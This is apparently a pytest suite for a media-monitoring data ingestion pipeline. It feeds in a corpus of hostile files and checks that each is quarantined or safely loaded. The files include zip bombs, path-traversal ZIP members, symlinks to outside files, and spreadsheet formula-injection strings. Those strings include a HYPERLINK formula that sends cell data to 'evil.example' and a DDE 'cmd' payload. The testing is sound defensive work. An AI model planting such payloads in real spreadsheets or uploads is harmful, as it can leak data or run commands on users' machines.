"""A corpus of broken and hostile files: each is set aside with a clear reason, the run goes on,
and every good row of every other file loads."""

from __future__ import annotations

import csv
import io
import logging
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from exports import GENERIC_HEADER, csv_text, write_xlsx

from ingestion.load import ingest_media
from ingestion.safe_export import write_csv

GOOD = {
    "date": "2025-03-01 07:45",
    "title": "Jembatan baru diresmikan",
    "outlet": "Antara Kalsel",
    "issue": "Infrastruktur",
    "sentiment": "positif",
    "reach": "1.500",
}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


def good_rows(tag: str, n: int = 2) -> list[dict[str, str]]:
    """``n`` valid rows whose titles name the file they belong to."""
    return [{**GOOD, "title": f"{tag} baris {i}"} for i in range(n)]


def generic_csv(tag: str, bad: list[dict[str, str]], n_good: int = 2) -> bytes:
    return csv_text(
        GENERIC_HEADER, good_rows(tag, n_good) + [{**GOOD, "title": f"{tag} rusak", **b} for b in bad]
    ).encode()


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def bomb(member: str) -> bytes:
    """64 MB of zeros packed into a few dozen kB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(member, "w", force_zip64=True) as fh:
            block = b"0" * (1 << 20)
            for _ in range(64):
                fh.write(block)
    return buf.getvalue()


def utf16_truncated() -> bytes:
    text = csv_text(GENERIC_HEADER, good_rows("utf16 terpotong", 3), delimiter="\t").encode("utf-16")
    return text[: len(text) - 41]  # cut in the middle of the last row and of a code unit


def mixed_encodings() -> bytes:
    head = csv_text(GENERIC_HEADER, good_rows("campuran utf8", 1)).encode("utf-8")
    tail = csv_text(GENERIC_HEADER, [{**GOOD, "title": "campuran cp1252 Pembangunan café"}]).split("\r\n", 1)[1]
    return head + tail.encode("cp1252")


def many_members() -> bytes:
    return zip_bytes({f"part_{i:03d}.csv": generic_csv(f"bagian {i}", []) for i in range(250)}, zipfile.ZIP_STORED)


def duplicated_columns() -> bytes:
    header = GENERIC_HEADER + ["title", "reach"]
    rows = [{**r} for r in good_rows("kolom ganda")]
    return csv_text(header, rows).encode()


# name -> (content, expected): ("quarantined", text in the error) | ("rejects", reason text, rows loaded)
# | ("loaded", rows loaded)
Case = tuple[Callable[[], bytes], tuple]
CORPUS: dict[str, Case] = {
    "empty.csv": (lambda: b"", ("quarantined", "the file is empty")),
    "blank_lines.csv": (lambda: b"\r\n\r\n   \r\n", ("quarantined", "the file is empty")),
    "bom_only.csv": (lambda: b"\xef\xbb\xbf", ("quarantined", "the file is empty")),
    "header_only.csv": (lambda: csv_text(GENERIC_HEADER, []).encode(), ("loaded", 0)),
    "garbage.csv": (lambda: bytes(range(256)) * 64, ("quarantined", "binary content")),
    "pdf_named_csv.csv": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00\x00", ("quarantined", "binary content")),
    "nul_in_text.csv": (lambda: generic_csv("nul", []).replace(b"baris 1", b"baris\x001"), ("quarantined", "binary")),
    "truncated_utf16.csv": (utf16_truncated, ("loaded", None)),
    "mixed_encodings.csv": (mixed_encodings, ("loaded", 2)),
    "single_10mb_line.csv": (lambda: b"x," * (5 * 2**20), ("quarantined", "unknown export layout")),
    "ten_mb_cell.csv": (
        lambda: generic_csv("sel besar", [{"title": "y" * (10 * 2**20)}]),
        ("quarantined", "not a readable CSV"),
    ),
    "zip_bomb.zip": (lambda: bomb("kliping.csv"), ("quarantined", "looks like a ZIP bomb")),
    "xlsx_bomb.xlsx": (lambda: bomb("xl/worksheets/sheet1.xml"), ("quarantined", "looks like a ZIP bomb")),
    "too_many_members.zip": (many_members, ("quarantined", "more than the cap of 200")),
    "truncated.zip": (
        lambda: zip_bytes({"a.csv": generic_csv("zip terpotong", [])})[:60],
        ("quarantined", "not a readable ZIP"),
    ),
    "no_data_inside.zip": (lambda: zip_bytes({"readme.md": b"# nothing"}), ("quarantined", "holds no CSV or XLSX")),
    "dotdot_member.zip": (lambda: zip_bytes({"../../../escaped.csv": generic_csv("zip dotdot", [])}), ("loaded", 2)),
    "absolute_member.zip": (
        lambda: zip_bytes({"/tmp/citra_absolute.csv": generic_csv("zip absolut", [])}),
        ("loaded", 2),
    ),
    "zip_with_one_bad_member.zip": (
        lambda: zip_bytes({"ok.csv": generic_csv("zip campur", []), "bad.csv": b"\x00\x01\x02"}),
        ("loaded", 2),
    ),
    "not_really.xlsx": (lambda: b"PK\x03\x04 this is not a workbook", ("quarantined", "not a readable")),
    "random_bytes.xlsx": (lambda: os.urandom(4096), ("quarantined", "not a readable")),
    "wrong_vendor.csv": (
        lambda: csv_text(["Tanggal Rapat", "Peserta", "Notulen"], [{"Peserta": "12"}]).encode(),
        ("quarantined", ""),
    ),
    "preamble_only.csv": (lambda: b"Laporan Monitoring Media\r\nPeriode: Maret 2025\r\n", ("quarantined", "")),
    "duplicated_columns.csv": (duplicated_columns, ("loaded", 2)),
    "future_dates.csv": (
        lambda: generic_csv("masa depan", [{"date": "2099-01-01 10:00"}]),
        ("rejects", "is in the future", 2),
    ),
    "before_2000.csv": (
        lambda: generic_csv("lampau", [{"date": "1970-01-01 08:00"}, {"date": "1999-12-31"}]),
        ("rejects", "is before 2000-01-01", 2),
    ),
    "negative_counts.csv": (
        lambda: generic_csv("negatif", [{"reach": "-20"}, {"engagement": "-1"}]),
        ("rejects", "is negative", 2),
    ),
    "absurd_counts.csv": (
        lambda: generic_csv(
            "mustahil",
            [{"reach": "99999999999999999999"}, {"engagement": "5000000000000"}, {"reach": "2.000.000.000.000.000"}],
        ),
        ("rejects", "is not plausible (more than 10^12)", 2),
    ),
    "formula_strings.csv": (
        lambda: (
            generic_csv("rumus", [], 0)
            + csv_text(GENERIC_HEADER, [{**GOOD, "title": f, "outlet": f} for f in FORMULAS])
            .split("\r\n", 1)[1]
            .encode()
        ),
        ("loaded", len(FORMULAS)),
    ),
    "unterminated_quote.csv": (
        lambda: generic_csv("kutip", []) + b'2025-03-02 10:00,"Judul tanpa akhir,x,y\r\n',
        ("quarantined", "cannot be parsed: Invalid Input Error"),
    ),
    "semicolon_sep_line.csv": (
        lambda: b"sep=;\r\n" + csv_text(GENERIC_HEADER, good_rows("sep"), delimiter=";").encode(),
        ("loaded", 2),
    ),
    "utf16_be.csv": (
        lambda: b"\xfe\xff" + csv_text(GENERIC_HEADER, good_rows("utf16be")).encode("utf-16-be"),
        ("loaded", 2),
    ),
    "cp1252.csv": (lambda: csv_text(GENERIC_HEADER, good_rows("Pembangunan café")).encode("cp1252"), ("loaded", 2)),
}


def xlsx_cases(landing: Path) -> dict[str, tuple]:
    """Workbooks are written by openpyxl itself, so they are real XLSX files."""
    write_xlsx(landing / "empty_sheet.xlsx", [], [])
    write_xlsx(
        landing / "formula_cells.xlsx",
        GENERIC_HEADER,
        [
            {**GOOD, "title": "xlsx baris"},
            {**GOOD, "title": '=HYPERLINK("http://evil.example","klik")', "url": "", "date": "2025-03-02 09:00"},
        ],
    )
    return {"empty_sheet.xlsx": ("quarantined", ""), "formula_cells.xlsx": ("loaded", None)}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict, dict, list[str]]:
    home = tmp_path_factory.mktemp("hostile")
    landing = home / "landing" / "media"
    landing.mkdir(parents=True)
    (landing / "good.csv").write_bytes(generic_csv("berkas baik", [], 3))
    expected = {name: expect for name, (build, expect) in CORPUS.items()}
    for name, (build, _) in CORPUS.items():
        (landing / name).write_bytes(build())
    expected.update(xlsx_cases(landing))
    outside = home / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_bytes(generic_csv("rahasia server", []))
    (landing / "link_to_secret.csv").symlink_to(outside / "secret.csv")
    (landing / "linked_folder").symlink_to(outside, target_is_directory=True)
    handler = _Capture()
    logging.getLogger("ingestion").addHandler(handler)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("CITRA_TODAY", "2026-01-15")
            report = ingest_media(home / "warehouse.duckdb", landing, home / "quarantine")
    finally:
        logging.getLogger("ingestion").removeHandler(handler)
    outcomes = {o.name: o for o in report.outcomes}
    return home, expected, outcomes, handler.messages


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


def test_the_corpus_holds_at_least_thirty_hostile_files(hostile_run) -> None:
    _, expected, _, _ = hostile_run
    assert len(expected) + 2 >= 30  # plus the two links


def test_every_hostile_file_is_quarantined_with_its_reason_or_loads_its_good_rows(hostile_run) -> None:
    home, expected, outcomes, _ = hostile_run
    wrong = []
    for name, expect in expected.items():
        outcome = outcomes[name]
        if expect[0] == "quarantined":
            ok = outcome.status == "quarantined" and expect[1] in outcome.message and outcome.message.startswith(name)
            ok = ok and (home / "quarantine" / name).exists()
        else:
            ok = outcome.status == "loaded" and (expect[-1] is None or outcome.rows_loaded == expect[-1])
        if not ok:
            wrong.append(f"{name}: expected {expect}, got {outcome}")
    assert wrong == [], "\n".join(wrong)


def test_bad_rows_are_set_aside_with_a_reason_naming_the_problem(hostile_run) -> None:
    home, expected, _, _ = hostile_run
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        rejects = con.execute("select file_name, source_row, reason from raw.ingest_rejects").fetchall()
    for name, expect in expected.items():
        if expect[0] == "rejects":
            reasons = [r[2] for r in rejects if r[0] == name]
            assert reasons and all(expect[1] in r for r in reasons), (name, reasons)
    absurd = sorted(r[2] for r in rejects if r[0] == "absurd_counts.csv")
    assert absurd == [
        "engagement 5000000000000 is not plausible (more than 10^12)",
        "reach 2.000.000.000.000.000 is not plausible (more than 10^12)",
        "reach 99999999999999999999 is not plausible (more than 10^12)",
    ]
    future = [r for r in rejects if r[0] == "future_dates.csv"]
    assert future[0][1:] == (
        4,
        "date '2099-01-01 10:00' is in the future (after 2026-01-16, tomorrow in WITA); "
        "check the date format or the export",
    )


def test_every_good_row_of_the_good_file_loads_beside_the_corpus(hostile_run) -> None:
    home, _, outcomes, _ = hostile_run
    assert (outcomes["good.csv"].status, outcomes["good.csv"].rows_loaded) == ("loaded", 3)
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        titles = {r[0] for r in con.execute("select title from raw.media_mentions").fetchall()}
        files = con.execute("select count(*) from raw.ingest_files").fetchall()[0][0]
    assert {f"berkas baik baris {i}" for i in range(3)} <= titles
    assert "campuran cp1252 Pembangunan cafÃ©" not in titles
    assert files == len(outcomes)


def test_links_and_paths_outside_landing_are_never_read(hostile_run) -> None:
    home, _, outcomes, warnings = hostile_run
    assert not any("link" in name for name in outcomes)
    assert any("link_to_secret.csv: symbolic links are never followed" in w for w in warnings)
    assert (home / "outside" / "secret.csv").exists()
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        leaked = con.execute("select count(*) from raw.media_mentions where title like 'rahasia%'").fetchall()[0][0]
    assert leaked == 0
    assert not (home / "escaped.csv").exists() and not Path("/tmp/citra_absolute.csv").exists()


def test_formula_strings_are_kept_as_text_in_the_warehouse_and_neutralized_on_export(
    hostile_run, tmp_path: Path
) -> None:
    home, _, _, _ = hostile_run
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        rows = con.execute(
            "select title, outlet from raw.media_mentions where source_file_id = "
            "(select file_id from raw.ingest_files where file_name = 'formula_strings.csv') "
            "order by source_row"
        ).fetchall()
    assert [r[0] for r in rows] == FORMULAS
    with write_csv(tmp_path / "annex.csv", ["title", "outlet"], rows).open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    assert cells == ["'" + f for f in FORMULAS for _ in range(2)]
